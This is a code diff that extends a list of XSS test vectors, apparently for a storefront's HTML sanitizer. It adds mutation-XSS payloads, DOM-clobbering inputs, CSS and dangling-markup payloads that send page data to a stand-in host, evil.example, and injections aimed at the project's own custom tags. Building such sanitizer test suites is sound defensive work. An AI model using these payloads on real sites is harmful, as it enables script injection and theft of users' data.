@@ -116,6 +116,23 @@ const mutations = [
   '<a title="`<img src=x onerror=hit()>`">x</a>',
   '<div id="1<script>hit()</script>">x</div>',
   '<b><i></b><script>hit()</script></i>',
+  '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img src=x onerror=hit()>">',
+  '<math><mtext><table><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=hit() src=1>"></form>',
+  '<math><mtext><option><mglyph><svg><mtext><style><a title="</style><img src=x onerror=hit()>">',
+  '<svg><style><!--</style><img src=x onerror=hit()>--></svg>',
+  '<svg><annotation-xml><foreignobject><style><!--</style><p id="--><img src=x onerror=hit()>">',
+  '<math><annotation-xml encoding="application/xhtml+xml"><style><!--</style><img src=x onerror=hit()>',
+  '<svg><![CDATA[><img src=x onerror=hit()>]]></svg>',
+  '<svg></br><style><a id="</style><img src=x onerror=hit()>">',
+  '<math><mi><style><!--</style></mi><img src=x onerror=hit()>--></math>',
+  '<div><dfn><dfn><dfn></p><table><style><!--</style></table><img src=x onerror=hit()>-->',
+  `${'<div>'.repeat(520)}<svg><style><a title="</style><img src=x onerror=hit()>">`,
+  '<noscript><style></noscript><img src=x onerror=hit()>',
+  '<p><svg><style>*{x:"</style><img src=x onerror=hit()>"}</style></svg>',
+  '<svg><set attributeName=href to=javascript:hit()></set><a><text class=bait>x</text></a></svg>',
+  '<svg><image href=x onerror=hit() /><feImage href="data:image/svg+xml,x" onerror=hit() /></svg>',
+  '<svg><foreignObject><body onload=hit()></foreignObject></svg>',
+  '<math><maction actiontype="statusline#" xlink:href="javascript:hit()" class=bait>x</maction></math>',
 ];
 
 const others = [
@@ -151,4 +168,106 @@ const others = [
   '<a href="https://evil.example" target=_blank ping="https://evil.example/ping">x</a>',
 ];
 
-export const vectors: readonly string[] = [...handlers, ...scripts, ...addresses, ...mutations, ...others];
+/** Names that take the place of what a script of the page reaches for. */
+const clobbering = [
+  '<img name=getElementById><img id=body name=body src=x onerror=hit()>',
+  '<a id=trustedTypes></a><a id=trustedTypes name=createPolicy href="javascript:hit()"></a>',
+  '<form id=attributes><input id=attributes><img src=x onerror=hit()></form>',
+  '<form><input name=childNodes><input name=firstChild><img src=x onerror=hit()></form>',
+  '<form><input name=removeChild><input name=removeAttribute><img src=x onerror=hit()></form>',
+  '<form onsubmit=hit()><input name=ownerDocument><button class=bait>x</button></form>',
+  '<form><output name=innerHTML></output><output name=textContent></output><script>hit()</script></form>',
+  '<object name=currentScript data="javascript:hit()"></object>',
+  '<iframe name=document src="javascript:parent.hit()"></iframe>',
+  '<iframe name=hit srcdoc="<script>parent.hit()</script>"></iframe>',
+  '<img id=airside name=airside><a id=customElements href="javascript:hit()" class=bait>x</a>',
+  '<div id=__proto__ constructor="hit()" onclick=hit() class=bait>x</div>',
+  '<a id=location href="javascript:hit()" class=bait>x</a>',
+  '<embed name=querySelector src="javascript:hit()">',
+];
+
+/** Asks other sites for what stands in the page, letter by letter. */
+const exfiltration = [
+  '<style>input[value^="a"]{background:url(https://evil.example/css?a)}</style>',
+  '<style>@import url(https://evil.example/css);</style>',
+  '<style>@font-face{font-family:x;src:url(https://evil.example/css);unicode-range:U+0041}</style><p style="font-family:x">A</p>',
+  '<style>@namespace url(https://evil.example/css);</style>',
+  '<style>p{background:image-set("https://evil.example/css" 1x)}</style><p>x</p>',
+  '<style>p{background:-webkit-cross-fade(url(https://evil.example/css),url(x),50%)}</style><p>x</p>',
+  '<style>p{--x:url(https://evil.example/css);background:var(--x)}</style><p>x</p>',
+  '<style>p::after{content:url(https://evil.example/css)}</style><p>x</p>',
+  '<style>p{cursor:url(https://evil.example/css),auto}</style><p>x</p>',
+  '<style>p{filter:url(https://evil.example/css#f)}</style><p>x</p>',
+  '<style>p{mask:url(https://evil.example/css)}</style><p>x</p>',
+  '<style>p{shape-outside:url(https://evil.example/css)}</style><p>x</p>',
+  '<style>p{clip-path:url(https://evil.example/css#c)}</style><p>x</p>',
+  '<style>@property --x{syntax:"*";inherits:true;initial-value:url(https://evil.example/css)}</style><p>x</p>',
+  '<style>:host-context(body){background:url(https://evil.example/css)}</style>',
+  '<style>}body{background:url(https://evil.example/css)}</style>',
+  '<style>} @scope (body) { :scope { display: none } }</style>',
+  '<style>@layer x{body{position:fixed;inset:0}}</style>',
+  '<p style="background:url(//evil.example/css);position:fixed;inset:0;z-index:2147483647">x</p>',
+  '<p style="--x:url(https://evil.example/css);mask-image:var(--x)">x</p>',
+];
+
+/** Left open on purpose: what follows in the page would be swallowed, and sent away. */
+const dangling = [
+  "<img src='https://evil.example/leak?",
+  '<img src="https://evil.example/leak?',
+  "<a href='https://evil.example/leak?x=",
+  '<a target=\'x" href=https://evil.example/leak class=bait>x</a>',
+  "<form action=https://evil.example/leak><input type=hidden name=x value='",
+  '<form action=https://evil.example/leak><textarea name=x>',
+  '<form action=https://evil.example/leak><select name=x><option>',
+  '<button form=checkout formaction=https://evil.example/leak class=bait>Pay',
+  "<meta http-equiv=refresh content='0; url=https://evil.example/leak?",
+  "<base target='",
+  '<base href=https://evil.example/>',
+  "<link rel=stylesheet href='https://evil.example/leak?",
+  "<table background='https://evil.example/leak?",
+  "<video poster='https://evil.example/leak?",
+  "<iframe src='https://evil.example/leak?",
+  '<iframe name="',
+  '<portal src="https://evil.example/leak">',
+  '<a href=https://evil.example/leak ping=https://evil.example/leak>x</a>',
+  '<!--',
+  '<style>',
+  '<plaintext>',
+  '</div></div></airside-shop></body></html>',
+];
+
+/** Our own tags, with what they must not have. */
+const ownTags = [
+  '<airside-store endpoint="https://evil.example/graphql"><airside-newsletter></airside-newsletter></airside-store>',
+  '<airside-shop base="https://evil.example/"></airside-shop>',
+  '<airside-checkout></airside-checkout>',
+  '<airside-sign-in origin="javascript:hit()"></airside-sign-in>',
+  '<airside-header name="<img src=x onerror=hit()>"></airside-header>',
+  '<airside-toasts></airside-toasts><airside-session></airside-session>',
+  '<airside-product-list heading="<img src=x onerror=hit()>" skus="&quot;><script>hit()</script>"></airside-product-list>',
+  '<airside-product-list skus="__proto__" search="{{constructor.constructor(`hit()`)()}}"></airside-product-list>',
+  '<airside-newsletter heading="<svg onload=hit()>" audience="__proto__" onfocusin=hit()></airside-newsletter>',
+  '<airside-cms-block identifier="../../x" style="position:fixed;inset:0"></airside-cms-block>',
+  '<airside-price sku="x"><template shadowrootmode=open><img src=x onerror=hit()></template></airside-price>',
+  '<airside-event event-id="&lt;img src=x onerror=hit()&gt;"></airside-event>',
+  '<airside-banner-group number="1e999" onclick=hit() class=bait></airside-banner-group>',
+  '<airside-brand-page brand="javascript:hit()"></airside-brand-page>',
+  '<airside-search-box query="&quot;><img src=x onerror=hit()>" autofocus></airside-search-box>',
+  '<airside-price sku=x onairside-error=hit() onerror=hit() part="x" slot="x" exportparts="x"></airside-price>',
+  '<airside-evil onclick=hit() class=bait>x</airside-evil><x-evil onclick=hit() class=bait>x</x-evil>',
+  '<p is="airside-checkout" onclick=hit() class=bait>x</p>',
+  '<AIRSIDE-STORE ENDPOINT="https://evil.example"></AIRSIDE-STORE>',
+  '<svg><airside-store endpoint="https://evil.example"></airside-store></svg>',
+];
+
+export const vectors: readonly string[] = [
+  ...handlers,
+  ...scripts,
+  ...addresses,
+  ...mutations,
+  ...others,
+  ...clobbering,
+  ...exfiltration,
+  ...dangling,
+  ...ownTags,
+];
